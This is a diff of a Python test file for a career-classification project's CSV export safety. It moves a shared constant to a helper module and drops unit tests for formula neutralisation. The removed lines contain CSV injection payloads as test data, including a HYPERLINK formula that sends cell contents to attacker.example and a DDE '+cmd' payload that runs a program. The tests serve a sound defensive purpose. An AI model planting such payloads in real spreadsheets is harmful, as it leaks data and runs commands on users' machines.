@@ -1,5 +1,6 @@
-"""Spreadsheet safety: every CSV the project writes shows formula-like text as text (a leading quote)
-and keeps real numbers numeric; ``--raw`` writes the cells unchanged. Junk text gets a reason, not a code."""
+"""Spreadsheets in and out of every interface: every CSV the web, the API and the command line write shows
+formula-like text as text (a leading quote) and keeps real numbers numeric; ``--raw`` writes the cells unchanged;
+junk text gets a reason, not a code; CSV in cp1252 or with a byte-order mark, and .xlsx, are read."""
 
 from __future__ import annotations
 
@@ -8,60 +9,19 @@ import io
 import json
 from pathlib import Path
 
-import pytest
 from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 
-from careerclusters.base.spreadsheets import SafeDictWriter, SafeWriter, safe_cell
-from careerclusters.classifier.batch import unusable
 from careerclusters.cli import app
-from careerclusters.framework import Edition, load_framework
-from careerclusters.framework.export import to_csv
 from careerclusters.server.app import create_app
+from tests.helpers import HYPERLINK
 
 runner = CliRunner()
-HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for bonus")'
-
-
-@pytest.mark.parametrize(("value", "shown"), [
-    (HYPERLINK, "'" + HYPERLINK), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("- Registered Nurse", "'- Registered Nurse"),
-    ("-3.5", "-3.5"), ("+12", "+12"), ("1e-3", "1e-3"), (-3.5, -3.5), (97550, 97550), ("Registered Nurses",
-                                                                                        "Registered Nurses"),
-])
-def test_safe_cell(value: object, shown: object) -> None:
-    assert safe_cell(value) == shown
-
-
-def test_writers_neutralise_and_raw_keeps() -> None:
-    for raw, expected in ((False, "'=1+1,-3.5,'@x\n"), (True, "=1+1,-3.5,@x\n")):
-        out = io.StringIO()
-        SafeWriter(out, raw=raw).writerow(["=1+1", "-3.5", "@x"])
-        assert out.getvalue() == expected
-    out = io.StringIO()
-    writer = SafeDictWriter(out, ["=name", "wage"])
-    writer.writeheader()
-    writer.writerow({"=name": "+SUM(A1)", "wage": -3.5})
-    assert out.getvalue() == "'=name,wage\n'+SUM(A1),-3.5\n"
 
 
 def test_web_download_keeps_negative_growth_numeric(imported_db: Path) -> None:
     text = TestClient(create_app(imported_db, warm=False)).get("/subclusters/physical-health/occupations.csv").text
     assert "51-9081,Dental Laboratory Technicians,49610,,3.9,35.2,-4.7,High school diploma or equivalent" in text
-
-
-def test_framework_export_has_nothing_to_neutralise() -> None:
-    """The framework's own names and definitions are plain text: safe and raw exports are identical."""
-    fw = load_framework()
-    assert to_csv(fw, Edition.MODERN) == to_csv(fw, Edition.MODERN, raw=True)
-
-
-def test_junk_titles_get_a_reason() -> None:
-    assert unusable(HYPERLINK) == "a spreadsheet formula, not a title"
-    assert unusable("+cmd|' /C calc'!A0") == "a spreadsheet formula, not a title"
-    assert unusable("@SUM(A1)") == "a spreadsheet formula, not a title"
-    assert unusable("$$$ !!! ###") == "no words to classify" and unusable("-3.5") == "no words to classify"
-    assert unusable("- Registered Nurse") is None and unusable("C++ Developer") is None
 
 
 def _rows(text: str) -> list[dict[str, str]]:
